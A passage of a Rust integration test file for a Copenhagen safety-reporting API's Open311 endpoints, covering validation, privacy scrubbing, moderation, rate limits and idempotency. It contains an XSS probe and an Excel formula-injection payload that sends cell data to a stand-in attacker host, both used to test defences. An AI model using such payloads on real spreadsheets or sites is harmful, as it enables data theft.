//! Resident reports through the real routes: Open311 GeoReport v2 conformance for each endpoint
//! and error, the reporter's follow key, scrubbing, the public's view (published only,
//! generalised, no contact), moderation and its log, duplicates and "me too", the rate limit,
//! the role rules of the secretariat's endpoints, and reports in district summaries.

mod common;

use actix_web::{test, web, App};
use serde_json::{json, Value};

use hotspot::api::{routes, AppState, WebSettings};
use hotspot::config::Config;

struct Fixture {
    state: web::Data<AppState>,
    planner: String,
    police: String,
}

/// A fresh store with the shipped boundaries (no demo), a planner and a police token.
fn fixture(limit: usize) -> Fixture {
    let dir = common::temp_dir("open311");
    let config = Config {
        data_dir: dir.clone(),
        demo: false,
        ..Config::default()
    };
    let (store, catalog, _) = hotspot::app::open(&config).unwrap();
    let make = |role: &str| {
        let t = hotspot::auth::new_token().unwrap();
        let id = store
            .create_token(&format!("o311 {role}"), role, &t.salt, &t.hash, 0)
            .unwrap();
        format!("Bearer {}", hotspot::auth::token_text(id, &t.secret))
    };
    let (planner, police) = (make("planner"), make("police"));
    let state = AppState::new(store, catalog, WebSettings::default(), false)
        .expect("state")
        .with_report_limit(limit);
    Fixture {
        state: web::Data::new(state),
        planner,
        police,
    }
}

struct Answer {
    status: u16,
    headers: actix_web::http::header::HeaderMap,
    json: Value,
}

async fn send(f: &Fixture, req: test::TestRequest) -> Answer {
    let app = test::init_service(App::new().app_data(f.state.clone()).configure(routes)).await;
    let res = test::call_service(&app, req.to_request()).await;
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let body = test::read_body(res).await;
    Answer {
        status,
        headers,
        json: serde_json::from_slice(&body).unwrap_or(Value::Null),
    }
}

async fn get(f: &Fixture, uri: &str, auth: Option<&str>) -> Answer {
    let mut r = test::TestRequest::get().uri(uri);
    if let Some(a) = auth {
        r = r.insert_header(("authorization", a));
    }
    send(f, r).await
}

async fn post_form(f: &Fixture, form: &str) -> Answer {
    send(
        f,
        test::TestRequest::post()
            .uri("/open311/v2/requests.json")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .set_payload(form.to_owned()),
    )
    .await
}

async fn post_json(f: &Fixture, uri: &str, body: Value, auth: Option<&str>) -> Answer {
    let mut r = test::TestRequest::post()
        .uri(uri)
        .insert_header(("content-type", "application/json"))
        .set_payload(body.to_string());
    if let Some(a) = auth {
        r = r.insert_header(("authorization", a));
    }
    send(f, r).await
}

/// Asserts an Open311 error: status, a one-element array with `code` and a `description`
/// starting with `field:`.
fn open311_error(a: &Answer, status: u16, field: &str) {
    assert_eq!(a.status, status, "{}", a.json);
    let e = &a.json[0];
    assert_eq!(e["code"], status, "{}", a.json);
    let d = e["description"].as_str().unwrap();
    assert!(
        d.starts_with(&format!("{field}:")),
        "'{d}' should name {field}"
    );
    assert_eq!(a.json.as_array().unwrap().len(), 1);
}

const HERE: &str = "lat=55.6866&long=12.5547";

#[actix_web::test]
async fn services_list_every_type_in_danish_and_english() {
    let f = fixture(5);
    let a = get(&f, "/open311/v2/services.json", None).await;
    assert_eq!(a.status, 200);
    let codes: Vec<&str> = a
        .json
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["service_code"].as_str().unwrap())
        .collect();
    assert_eq!(
        codes,
        [
            "poor_lighting",
            "dark_place",
            "harassment",
            "drug_dealing",
            "vandalism",
            "unsafe_crossing",
            "other"
        ]
    );
    for s in a.json.as_array().unwrap() {
        // Every service declares its time-of-day attribute in its definition.
        assert_eq!(s["metadata"], true);
        assert_eq!(s["type"], "realtime");
        assert!(s["service_name_da"].is_string() && s["service_name_en"].is_string());
    }
    let en = get(&f, "/open311/v2/services.json?locale=en", None).await;
    assert_eq!(en.json[0]["service_name"], "Poor lighting");
    // Clients send their key and jurisdiction on every call: taken and ignored.
    let keyed = get(
        &f,
        "/open311/v2/services.json?api_key=abc&jurisdiction_id=kk",
        None,
    )
    .await;
    assert_eq!(keyed.status, 200);

    let def = get(&f, "/open311/v2/services/dark_place.json", None).await;
    assert_eq!(def.status, 200, "{}", def.json);
    assert_eq!(def.json["service_code"], "dark_place");
    let attr = &def.json["attributes"][0];
    assert_eq!(attr["code"], "time_of_day");
    assert_eq!(attr["datatype"], "singlevaluelist");
    assert_eq!(attr["variable"], true);
    let keys: Vec<&str> = attr["values"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["key"].as_str().unwrap())
        .collect();
    assert_eq!(keys, ["day", "evening", "night"]);
    let none = get(&f, "/open311/v2/services/fireworks.json", None).await;
    open311_error(&none, 404, "service_code");
}

/// The raw text of an answer, for the XML forms.
async fn text(f: &Fixture, r: test::TestRequest) -> (u16, String, String) {
    let app = test::init_service(
        actix_web::App::new()
            .app_data(f.state.clone())
            .configure(hotspot::api::routes),
    )
    .await;
    let res = test::call_service(&app, r.to_request()).await;
    let status = res.status().as_u16();
    let ctype = res
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    let body = test::read_body(res).await;
    (status, ctype, String::from_utf8(body.to_vec()).unwrap())
}

#[actix_web::test]
async fn xml_is_offered_for_every_call_errors_included() {
    let f = fixture(1000);
    let (status, ctype, body) = text(
        &f,
        test::TestRequest::get().uri("/open311/v2/services.xml?jurisdiction_id=kk"),
    )
    .await;
    assert_eq!((status, ctype.as_str()), (200, "text/xml; charset=utf-8"));
    assert!(body.starts_with("<?xml"), "{body}");
    assert!(body.contains("<services><service>"), "{body}");
    assert!(body.contains("<service_code>dark_place</service_code>"));
    assert_eq!(body.matches("<service>").count(), 7);

    let (status, _, body) = text(
        &f,
        test::TestRequest::get().uri("/open311/v2/services/harassment.xml"),
    )
    .await;
    assert_eq!(status, 200);
    assert!(body.contains("<service_definition>"), "{body}");
    assert!(body.contains("<attributes><attribute>"), "{body}");
    assert!(body.contains("<code>time_of_day</code>"), "{body}");

    // A report posted as FixMyStreet posts one: form fields, XML answer, with the standard
    // fields this service does not keep dropped and named.
    let (status, ctype, body) = text(
        &f,
        test::TestRequest::post()
            .uri("/open311/v2/requests.xml")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .set_payload(format!(
                "api_key=k&jurisdiction_id=kk&service_code=dark_place&{HERE}&description=M%C3%B8rkt&attribute[time_of_day]=night&media_url=http://x/y.jpg&phone=12345678&address_string=Bl%C3%A5g%C3%A5rds%20Plads"
            )),
    )
    .await;
    assert_eq!(
        (status, ctype.as_str()),
        (201, "text/xml; charset=utf-8"),
        "{body}"
    );
    assert!(body.contains("<service_requests><request>"), "{body}");
    let id = body
        .split("<service_request_id>")
        .nth(1)
        .and_then(|r| r.split('<').next())
        .unwrap()
        .to_owned();
    assert!(id.parse::<i64>().is_ok(), "{body}");
    assert!(body.contains("Not stored: media_url, phone"), "{body}");
    let stored = f.state.reports().get(id.parse().unwrap()).unwrap();
    assert_eq!(stored.description_original, "Mørkt");

    // Not published yet: an XML 404 in Open311's error form.
    let (status, ctype, body) = text(
        &f,
        test::TestRequest::get().uri(&format!("/open311/v2/requests/{id}.xml")),
    )
    .await;
    assert_eq!((status, ctype.as_str()), (404, "text/xml; charset=utf-8"));
    assert!(
        body.contains("<errors><error><code>404</code><description>service_request_id:"),
        "{body}"
    );
    let (status, _, body) = text(
        &f,
        test::TestRequest::post()
            .uri("/open311/v2/requests.xml")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .set_payload("service_code=dark_place&description=x"),
    )
    .await;
    assert_eq!(status, 400);
    assert!(body.contains("<description>lat:"), "{body}");
    let (status, _, body) = text(
        &f,
        test::TestRequest::get().uri("/open311/v2/requests.xml?api_key=k&status=open"),
    )
    .await;
    assert_eq!(status, 200);
    assert!(body.contains("<service_requests"), "{body}");
    let (status, _, body) =
        text(&f, test::TestRequest::get().uri("/open311/v2/requests.csv")).await;
    assert_eq!(status, 404);
    assert!(body.contains("use .json or .xml"), "{body}");
    let (status, _, body) = text(
        &f,
        test::TestRequest::delete().uri("/open311/v2/requests.xml"),
    )
    .await;
    assert_eq!(status, 405);
    assert!(body.contains("<code>405</code>"), "{body}");
}

#[actix_web::test]
async fn every_bad_request_is_refused_in_open311_form_naming_the_field() {
    let f = fixture(1000);
    let long = "x".repeat(2001);
    for (form, field) in [
        (format!("{HERE}&description=mørkt"), "service_code"),
        (
            format!("service_code=fireworks&{HERE}&description=mørkt"),
            "service_code",
        ),
        (
            "service_code=other&lat=NaN&long=12.55&description=x".to_owned(),
            "lat",
        ),
        (
            "service_code=other&lat=91&long=12.55&description=x".to_owned(),
            "lat",
        ),
        (
            "service_code=other&lat=55.68&long=200&description=x".to_owned(),
            "long",
        ),
        (
            "service_code=other&lat=0&long=0&description=x".to_owned(),
            "lat",
        ),
        (
            "service_code=other&lat=12.5547&long=55.6866&description=x".to_owned(),
            "lat",
        ),
        (
            "service_code=other&long=12.5547&description=x".to_owned(),
            "lat",
        ),
        (format!("service_code=other&{HERE}"), "description"),
        (
            format!("service_code=other&{HERE}&description=%20%20"),
            "description",
        ),
        (
            format!("service_code=other&{HERE}&description={long}"),
            "description",
        ),
        (
            format!("service_code=other&{HERE}&description=a%07b"),
            "description",
        ),
        (
            format!("service_code=other&{HERE}&description=x&website=http://spam.example"),
            "website",
        ),
        (
            "service_code=other&address_string=Blågårds%20Plads&description=x".to_owned(),
            "lat",
        ),
        (
            format!("service_code=other&{HERE}&description=a%EF%BF%BFb"),
            "description",
        ),
        (
            format!("service_code=other&{HERE}&description=x&email=not-an-address"),
            "email",
        ),
        (
            format!("service_code=other&{HERE}&description=x&attribute[time_of_day]=noon"),
            "attribute[time_of_day]",
        ),
        (
            format!("service_code=other&{HERE}&description=x&description=y"),
            "description",
        ),
        (
            format!("service_code=other&{HERE}&description=x&colour=red"),
            "colour",
        ),
    ] {
        let a = post_form(&f, &form).await;
        open311_error(&a, 400, field);
    }
    let swapped = post_form(
        &f,
        "service_code=other&lat=12.5547&long=55.6866&description=x",
    )
    .await;
    assert!(swapped.json[0]["description"]
        .as_str()
        .unwrap()
        .contains("swapped"));
    let outside = post_form(&f, "service_code=other&lat=0&long=0&description=x").await;
    assert!(outside.json[0]["description"]
        .as_str()
        .unwrap()
        .contains("Municipality of Copenhagen"));
    // Too large a body, and a type that is neither form nor JSON.
    let big = send(
        &f,
        test::TestRequest::post()
            .uri("/open311/v2/requests.json")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .set_payload(format!(
                "service_code=other&{HERE}&description={}",
                "y".repeat(40_000)
            )),
    )
    .await;
    open311_error(&big, 413, "body");
    let xml = send(
        &f,
        test::TestRequest::post()
            .uri("/open311/v2/requests.json")
            .insert_header(("content-type", "text/xml"))
            .set_payload("<x/>"),
    )
    .await;
    open311_error(&xml, 415, "Content-Type");
    // Nothing of it was stored.
    let all = get(&f, "/api/reports", Some(&f.planner)).await;
    assert_eq!(all.json["numberMatched"], 0);
    // Unknown request ids and paths answer in Open311 form too.
    open311_error(
        &get(&f, "/open311/v2/requests/999.json", None).await,
        404,
        "service_request_id",
    );
    open311_error(
        &get(&f, "/open311/v2/requests.json?status=maybe", None).await,
        400,
        "status",
    );
    open311_error(
        &get(&f, "/open311/v2/requests.json?bbox=1,2,3", None).await,
        400,
        "bbox",
    );
    assert_eq!(
        get(&f, "/open311/v2/nothing.json", None).await.json[0]["code"],
        404
    );
}

#[actix_web::test]
async fn a_report_from_submission_to_publication_and_follow_up() {
    let f = fixture(1000);
    let description = "Porten er mørk om natten <script>alert(1)</script>, ring 22 33 44 55 eller skriv til jens@example.dk. Bil AB 12 345 holder der, Blågårdsgade 12, siden 2014.";
    let a = post_json(&f, "/open311/v2/requests.json", json!({
        "service_code": "dark_place", "lat": 55.6866, "long": 12.5547, "description": description,
        "email": "jens@example.dk", "first_name": "Jens", "attribute": {"time_of_day": "night"},
        "phone": "+45 70 11 22 33",
    }), None).await;
    assert_eq!(a.status, 201, "{}", a.json);
    let created = &a.json[0];
    let id = created["service_request_id"].as_str().unwrap().to_owned();
    let key = created["follow_key"].as_str().unwrap().to_owned();
    assert!(created["service_notice"].is_string());
    assert_eq!(created["follow_url"], format!("/?report={id}&key={key}"));

    // Not public before moderation; the reporter follows it with the key.
    open311_error(
        &get(&f, &format!("/open311/v2/requests/{id}.json"), None).await,
        404,
        "service_request_id",
    );
    assert_eq!(
        get(&f, "/open311/v2/requests.json", None).await.json,
        json!([])
    );
    let mine = get(
        &f,
        &format!("/open311/v2/requests/{id}.json?key={key}"),
        None,
    )
    .await;
    assert_eq!(mine.status, 200);
    assert_eq!(mine.json[0]["detailed_status"], "new");
    assert_eq!(mine.json[0]["status"], "open");
    let wrong = format!("{id}_{}", "0".repeat(64));
    assert_eq!(
        get(
            &f,
            &format!("/open311/v2/requests/{id}.json?key={wrong}"),
            None
        )
        .await
        .status,
        404
    );

    // The secretariat sees the original and the contact; the police do not get the queue.
    let queue = get(&f, "/api/reports?status=new", Some(&f.planner)).await;
    let r = &queue.json["reports"][0];
    assert_eq!(r["description_original"], description);
    assert_eq!(r["contact"]["email"], "jens@example.dk");
    assert_eq!(r["district"], "district-8");
    assert_eq!(get(&f, "/api/reports", Some(&f.police)).await.status, 403);
    assert_eq!(get(&f, "/api/reports", None).await.status, 401);

    // Moderation: rules, then publish, then status with a public note.
    let moderation = format!("/api/reports/{id}/moderation");
    let m = |body: Value| post_json(&f, &moderation, body, Some(&f.planner));
    assert_eq!(m(json!({"action": "reject"})).await.json["field"], "reason");
    assert_eq!(
        m(json!({"action": "set_status", "status": "closed"}))
            .await
            .json["field"],
        "action"
    );
    assert_eq!(m(json!({"action": "launch"})).await.json["field"], "action");
    // A field of the wrong JSON type is named, not the whole body.
    assert_eq!(
        m(json!({"action": "reject", "reason": 5})).await.json["field"],
        "reason"
    );
    assert_eq!(m(json!({"action": 1})).await.json["field"], "action");
    assert_eq!(
        post_json(
            &f,
            &format!("/api/reports/{id}/moderation"),
            json!({"action": "publish"}),
            Some(&f.police)
        )
        .await
        .status,
        403
    );
    assert_eq!(m(json!({"action": "publish"})).await.status, 200);
    let done = m(json!({"action": "set_status", "status": "in_progress", "status_note": "Vi har bestilt ny belysning; ring 33 44 55 66"})).await;
    assert_eq!(done.json["detailed_status"], "in_progress");
    assert_eq!(
        done.json["status_notes"],
        "Vi har bestilt ny belysning; ring [fjernet]"
    );

    // The public view: published, scrubbed, generalised, no contact anywhere.
    let public = get(&f, "/open311/v2/requests.json", None).await;
    assert_eq!(public.status, 200);
    let p = &public.json[0];
    assert_eq!(p["service_request_id"], id.as_str());
    let text = public.json.to_string();
    for secret in [
        "jens@example.dk",
        "22 33 44 55",
        "AB 12 345",
        "Jens",
        "contact",
        "description_original",
        "exact_lat",
    ] {
        assert!(
            !text.contains(secret),
            "public output holds '{secret}': {text}"
        );
    }
    let d = p["description"].as_str().unwrap();
    assert!(
        d.contains("<script>alert(1)</script>"),
        "kept as text, escaped by JSON: {d}"
    );
    assert!(d.contains("Blågårdsgade 12") && d.contains("2014"), "{d}");
    assert_eq!(p["time_of_day"], "night");
    assert!(
        (p["lat"].as_f64().unwrap() - 55.6866).abs() > 1e-6
            || (p["long"].as_f64().unwrap() - 12.5547).abs() > 1e-6
    );
    let (alon, alat) = hotspot::privacy::anchor(12.5547, 55.6866);
    assert!(
        (p["long"].as_f64().unwrap() - alon).abs() < 1e-6
            && (p["lat"].as_f64().unwrap() - alat).abs() < 1e-6
    );
    let one = get(&f, &format!("/open311/v2/requests/{id}.json"), None).await;
    assert_eq!(
        one.json[0]["status_notes"],
        "Vi har bestilt ny belysning; ring [fjernet]"
    );
    // Filters of the list.
    assert_eq!(
        get(&f, "/open311/v2/requests.json?status=closed", None)
            .await
            .json,
        json!([])
    );
    assert_eq!(
        get(
            &f,
            "/open311/v2/requests.json?service_code=drug_dealing",
            None
        )
        .await
        .json,
        json!([])
    );
    assert_eq!(
        get(
            &f,
            "/open311/v2/requests.json?bbox=12.55,55.68,12.56,55.69",
            None
        )
        .await
        .json
        .as_array()
        .unwrap()
        .len(),
        1
    );
    assert_eq!(
        get(&f, "/open311/v2/requests.json?start_date=2099-01-01", None)
            .await
            .json,
        json!([])
    );
    let layer = get(&f, "/api/collections/reports/items", None).await;
    assert_eq!(layer.json["features"].as_array().unwrap().len(), 1);
    assert!(!layer.json.to_string().contains("jens@example.dk"));

    // A second report of the same type 30 m away suggests the first; "me too" counts.
    let b = post_form(
        &f,
        "service_code=dark_place&lat=55.68687&long=12.5547&description=Også mørkt her",
    )
    .await;
    assert_eq!(b.status, 201);
    assert_eq!(
        b.json[0]["possible_duplicates"][0]["service_request_id"],
        id.as_str()
    );
    let bid = b.json[0]["service_request_id"].as_str().unwrap().to_owned();
    let me = send(
        &f,
        test::TestRequest::post().uri(&format!("/open311/v2/requests/{id}/me_too.json")),
    )
    .await;
    assert_eq!(me.json[0]["me_too"], 1);
    assert_eq!(
        post_json(
            &f,
            &format!("/api/reports/{bid}/moderation"),
            json!({"action": "mark_duplicate", "duplicate_of": id}),
            Some(&f.planner)
        )
        .await
        .status,
        200
    );
    assert_eq!(
        get(&f, &format!("/open311/v2/requests/{id}.json"), None)
            .await
            .json[0]["me_too"],
        2
    );
    // "me too" on an unpublished report is not found.
    assert_eq!(
        send(
            &f,
            test::TestRequest::post().uri(&format!("/open311/v2/requests/{bid}/me_too.json"))
        )
        .await
        .status,
        404
    );

    // Every action is in the log: who, when, what, why.
    let log = get(
        &f,
        &format!("/api/reports/{id}/moderation"),
        Some(&f.planner),
    )
    .await;
    let actions: Vec<&str> = log.json["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["publish", "set_status"]);
    assert!(log.json["actions"][0]["actor"]
        .as_str()
        .unwrap()
        .contains("o311 planner"));

    // The district summary counts the reports of district 8 (the duplicate left out).
    let s = get(
        &f,
        "/api/districts/district-8/summary?from=2020-01-01&to=2099-12-31",
        Some(&f.planner),
    )
    .await;
    assert_eq!(s.json["reports"]["total"], 1, "{}", s.json["reports"]);
    let public = get(
        &f,
        "/api/districts/district-8/summary?from=2020-01-01&to=2099-12-31",
        None,
    )
    .await;
    assert!(
        public.json["reports"]["total"].is_null(),
        "1 report is a small count"
    );
}

#[actix_web::test]
async fn five_reports_per_client_then_429_with_retry_after() {
    let f = fixture(5);
    for i in 0..5 {
        let a = post_form(&f, &format!("service_code=other&{HERE}&description=nr {i}")).await;
        assert_eq!(a.status, 201, "{}", a.json);
    }
    let a = post_form(&f, &format!("service_code=other&{HERE}&description=nr 6")).await;
    open311_error(&a, 429, "rate_limit");
    let wait: u64 = a
        .headers
        .get("retry-after")
        .unwrap()
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=600).contains(&wait));
    // A refused request does not use up the limit of an honest one: bad input is 400 first.
    let bad = post_form(
        &f,
        "service_code=nope&lat=55.6866&long=12.5547&description=x",
    )
    .await;
    assert_eq!(bad.status, 400);
}

#[actix_web::test]
async fn safety_walk_observations_land_in_the_layer_at_once() {
    let f = fixture(5);
    let w = post_json(&f, "/api/walks", json!({"title": "Blågården, efterår", "date": "2026-11-27", "participants": ["resident", "police", "housing"],
        "route": {"type": "LineString", "coordinates": [[12.553, 55.686], [12.556, 55.687]]}}), Some(&f.planner)).await;
    assert_eq!(w.status, 201, "{}", w.json);
    let walk = w.json["id"].as_i64().unwrap();
    assert_eq!(
        post_json(
            &f,
            "/api/walks",
            json!({"title": "x", "date": "2026-11-27", "participants": ["Jens Hansen"]}),
            Some(&f.planner)
        )
        .await
        .json["field"],
        "participants"
    );
    assert_eq!(
        post_json(
            &f,
            "/api/walks",
            json!({"title": "x", "date": "27/11"}),
            Some(&f.planner)
        )
        .await
        .json["field"],
        "date"
    );
    assert_eq!(
        post_json(
            &f,
            "/api/walks",
            json!({"title": "x", "date": "2026-11-27"}),
            None
        )
        .await
        .status,
        401
    );
    let o = post_json(&f, &format!("/api/walks/{walk}/observations"), json!({"kind": "lighting", "rating": 2, "note": "mørk port", "lon": 12.5547, "lat": 55.6866}), Some(&f.planner)).await;
    assert_eq!(o.status, 201, "{}", o.json);
    assert_eq!(o.json["properties"]["source"], format!("walk-{walk}"));
    for (body, field) in [
        (
            json!({"kind": "lighting", "rating": 7, "lon": 12.5547, "lat": 55.6866}),
            "rating",
        ),
        (
            json!({"kind": "noise", "rating": 2, "lon": 12.5547, "lat": 55.6866}),
            "kind",
        ),
        (
            json!({"kind": "lighting", "rating": 2, "lon": 0.0, "lat": 0.0}),
            "lon",
        ),
    ] {
        let a = post_json(
            &f,
            &format!("/api/walks/{walk}/observations"),
            body,
            Some(&f.planner),
        )
        .await;
        assert_eq!(a.json["field"], field, "{}", a.json);
    }
    assert_eq!(
        post_json(
            &f,
            "/api/walks/999/observations",
            json!({"kind": "lighting", "rating": 2, "lon": 12.5547, "lat": 55.6866}),
            Some(&f.planner)
        )
        .await
        .status,
        404
    );
    // In the observations layer at once, and counted on the walk.
    let items = get(
        &f,
        "/api/collections/observations/items?kind=lighting",
        None,
    )
    .await;
    assert!(items.json["features"]
        .as_array()
        .unwrap()
        .iter()
        .any(|x| x["properties"]["note"] == "mørk port"));
    let walks = get(&f, "/api/walks", Some(&f.planner)).await;
    assert_eq!(walks.json["walks"][0]["observations"], 1);
    assert_eq!(
        walks.json["walks"][0]["participants"],
        json!(["resident", "police", "housing"])
    );

    // The next walk at the same places, and the comparison of the two.
    let w2 = post_json(
        &f,
        "/api/walks",
        json!({"title": "Blågården, forår", "date": "2027-04-20", "participants": ["resident"]}),
        Some(&f.planner),
    )
    .await;
    let walk2 = w2.json["id"].as_i64().unwrap();
    let o2 = post_json(&f, &format!("/api/walks/{walk2}/observations"), json!({"kind": "lighting", "rating": 4, "note": "ny lampe", "lon": 12.55475, "lat": 55.68662}), Some(&f.planner)).await;
    assert_eq!(o2.status, 201);
    let own = get(
        &f,
        &format!("/api/walks/{walk}/observations"),
        Some(&f.planner),
    )
    .await;
    assert_eq!(own.json["features"].as_array().unwrap().len(), 1);
    assert_eq!(own.json["features"][0]["properties"]["note"], "mørk port");
    let cmp = get(
        &f,
        &format!("/api/walks/{walk}/compare?with={walk2}"),
        Some(&f.planner),
    )
    .await;
    assert_eq!(cmp.status, 200, "{}", cmp.json);
    assert_eq!(cmp.json["summary"]["better"], 1);
    assert_eq!(cmp.json["pairs"][0]["change"], 2);
    assert_eq!(cmp.json["pairs"][0]["after"]["note"], "ny lampe");
    assert_eq!(
        get(&f, &format!("/api/walks/{walk}/compare"), Some(&f.planner))
            .await
            .json["field"],
        "with"
    );
    assert_eq!(
        get(&f, &format!("/api/walks/{walk}/compare?with={walk2}"), None)
            .await
            .status,
        401
    );
    // A note that Excel would run as a formula stays text in the Danish-Excel CSV.
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1;"klik")"#;
    let o = post_json(
        &f,
        &format!("/api/walks/{walk}/observations"),
        json!({"kind": "lighting", "rating": 2, "note": formula, "lon": 12.5548, "lat": 55.6867}),
        Some(&f.planner),
    )
    .await;
    assert_eq!(o.status, 201, "{}", o.json);
    let app = test::init_service(App::new().app_data(f.state.clone()).configure(routes)).await;
    let res = test::call_service(
        &app,
        test::TestRequest::get()
            .uri("/api/collections/observations/items?f=csv&dialect=excel-da")
            .to_request(),
    )
    .await;
    assert_eq!(res.status(), 200);
    let csv = String::from_utf8(test::read_body(res).await.to_vec()).unwrap();
    let row = csv
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .expect("the row");
    assert!(row.contains(";\"'=HYPERLINK("), "{row}");
}

#[actix_web::test]
async fn a_post_retried_with_its_idempotency_key_returns_the_first_report() {
    let f = fixture(0);
    let key = "5f0c9a1e-7d3b-4c2a-9e8f-1a2b3c4d5e6f";
    let form = "service_code=dark_place&lat=55.6872&long=12.5531&description=M%C3%B8rk+sti";
    let keyed = |key: &str| {
        test::TestRequest::post()
            .uri("/open311/v2/requests.json")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .insert_header(("idempotency-key", key.to_owned()))
            .set_payload(form.to_owned())
    };
    let first = send(&f, keyed(key)).await;
    assert_eq!(first.status, 201, "{}", first.json);
    assert!(first.headers.get("idempotent-replayed").is_none());
    // A retry (the answer was lost) is the same report.
    let again = send(&f, keyed(key)).await;
    assert_eq!(again.status, 201, "{}", again.json);
    assert_eq!(again.headers.get("idempotent-replayed").unwrap(), "true");
    assert_eq!(
        again.json[0]["service_request_id"],
        first.json[0]["service_request_id"]
    );
    assert_eq!(again.json[0]["follow_key"], first.json[0]["follow_key"]);
    // The same key as a form field is the same key.
    let field = post_form(&f, &format!("{form}&idempotency_key={key}")).await;
    assert_eq!(
        field.json[0]["service_request_id"],
        first.json[0]["service_request_id"]
    );
    // The key with another report is refused: a guessed key discloses no report.
    let other_report = send(
        &f,
        keyed(key).set_payload(
            "service_code=dark_place&lat=55.6872&long=12.5531&description=Something+else",
        ),
    )
    .await;
    open311_error(&other_report, 422, "Idempotency-Key");
    assert!(other_report.json[0].get("follow_key").is_none());
    // The follow key answered to the retry shows the unpublished report.
    let id = first.json[0]["service_request_id"].as_str().unwrap();
    let follow = again.json[0]["follow_key"].as_str().unwrap();
    let seen = get(
        &f,
        &format!("/open311/v2/requests/{id}.json?key={follow}"),
        None,
    )
    .await;
    assert_eq!(seen.status, 200, "{}", seen.json);
    // One report is stored, not three.
    let queue = get(&f, "/api/reports", Some(&f.planner)).await;
    assert_eq!(queue.json["numberMatched"], 1, "{}", queue.json);
    // Another key is another report.
    let other = send(&f, keyed("5f0c9a1e-7d3b-4c2a-9e8f-000000000000")).await;
    assert_eq!(other.status, 201);
    assert_ne!(
        other.json[0]["service_request_id"],
        first.json[0]["service_request_id"]
    );
    // Bad keys are refused naming the field, and nothing is stored for them.
    open311_error(&send(&f, keyed("short")).await, 400, "Idempotency-Key");
    open311_error(
        &send(&f, keyed("has a space in the key")).await,
        400,
        "Idempotency-Key",
    );
    let mismatch = send(
        &f,
        keyed(key).set_payload(format!("{form}&idempotency_key=another-key-of-16-chars")),
    )
    .await;
    open311_error(&mismatch, 400, "idempotency_key");
    let queue = get(&f, "/api/reports", Some(&f.planner)).await;
    assert_eq!(queue.json["numberMatched"], 2, "{}", queue.json);
}

#[actix_web::test]
async fn a_retry_over_the_limit_still_returns_the_stored_report() {
    let f = fixture(2);
    let form = "service_code=dark_place&lat=55.6872&long=12.5531&description=M%C3%B8rk+sti";
    let keyed = || {
        test::TestRequest::post()
            .uri("/open311/v2/requests.json")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .insert_header(("idempotency-key", "retry-over-the-limit-0001"))
            .set_payload(form.to_owned())
    };
    let first = send(&f, keyed()).await;
    assert_eq!(first.status, 201, "{}", first.json);
    let other = post_form(&f, &format!("service_code=other&{HERE}&description=nr 2")).await;
    assert_eq!(other.status, 201, "{}", other.json);
    // The client is at its limit: a new report is refused, a retry of the stored one is not
    // (its answer was lost; it was counted when it was sent).
    open311_error(
        &post_form(&f, &format!("service_code=other&{HERE}&description=nr 3")).await,
        429,
        "rate_limit",
    );
    let again = send(&f, keyed()).await;
    assert_eq!(again.status, 201, "{}", again.json);
    assert_eq!(again.headers.get("idempotent-replayed").unwrap(), "true");
    assert_eq!(
        again.json[0]["service_request_id"],
        first.json[0]["service_request_id"]
    );
    // Its key with another report is still refused, over the limit or not.
    let other_body = send(
        &f,
        keyed().set_payload("service_code=dark_place&lat=55.6872&long=12.5531&description=Andet"),
    )
    .await;
    open311_error(&other_body, 422, "Idempotency-Key");
}

#[actix_web::test]
async fn a_moderation_decided_on_an_old_view_of_the_report_is_refused() {
    let f = fixture(0);
    let sent = post_form(
        &f,
        &format!("service_code=dark_place&{HERE}&description=M%C3%B8rkt"),
    )
    .await;
    let id = sent.json[0]["service_request_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let queue = get(&f, "/api/reports?status=new", Some(&f.planner)).await;
    let seen = queue.json["reports"][0]["moderation_version"]
        .as_str()
        .unwrap()
        .to_owned();
    let moderate = |body: Value, if_match: Option<String>| {
        let mut r = test::TestRequest::post()
            .uri(&format!("/api/reports/{id}/moderation"))
            .insert_header(("content-type", "application/json"))
            .insert_header(("authorization", f.planner.clone()))
            .set_payload(body.to_string());
        if let Some(v) = if_match {
            r = r.insert_header(("if-match", v));
        }
        send(&f, r)
    };
    // Moderator 1 rejects it, on the view both moderators loaded.
    let rejected = moderate(
        json!({"action": "reject", "reason": "names a person"}),
        Some(format!("\"{seen}\"")),
    )
    .await;
    assert_eq!(rejected.status, 200, "{}", rejected.json);
    assert_ne!(rejected.json["moderation_version"], seen.as_str());
    // Moderator 2 publishes it, decided on the same (now old) view: refused, nothing written.
    let late = moderate(json!({"action": "publish"}), Some(format!("\"{seen}\""))).await;
    assert_eq!(late.status, 412, "{}", late.json);
    assert_eq!(late.json["field"], "If-Match");
    assert!(late.json["detail"].as_str().unwrap().contains("rejected"));
    let now = get(&f, &format!("/open311/v2/requests/{id}.json"), None).await;
    assert_eq!(now.status, 404, "still not public: {}", now.json);
    let log = get(
        &f,
        &format!("/api/reports/{id}/moderation"),
        Some(&f.planner),
    )
    .await;
    assert_eq!(
        log.json["actions"].as_array().map(Vec::len),
        Some(1),
        "{}",
        log.json
    );
    // Decided again on the view as it now is, the publication is written.
    let current = rejected.json["moderation_version"]
        .as_str()
        .unwrap()
        .to_owned();
    let published = moderate(json!({"action": "publish"}), Some(current)).await;
    assert_eq!(published.status, 200, "{}", published.json);
    // A resident's "me too" changes no moderated state: a view from before it still decides.
    let shown = published.json["moderation_version"]
        .as_str()
        .unwrap()
        .to_owned();
    let me = send(
        &f,
        test::TestRequest::post().uri(&format!("/open311/v2/requests/{id}/me_too.json")),
    )
    .await;
    assert_eq!(me.json[0]["me_too"], 1, "{}", me.json);
    let noted = moderate(
        json!({"action": "set_status", "status": "acknowledged"}),
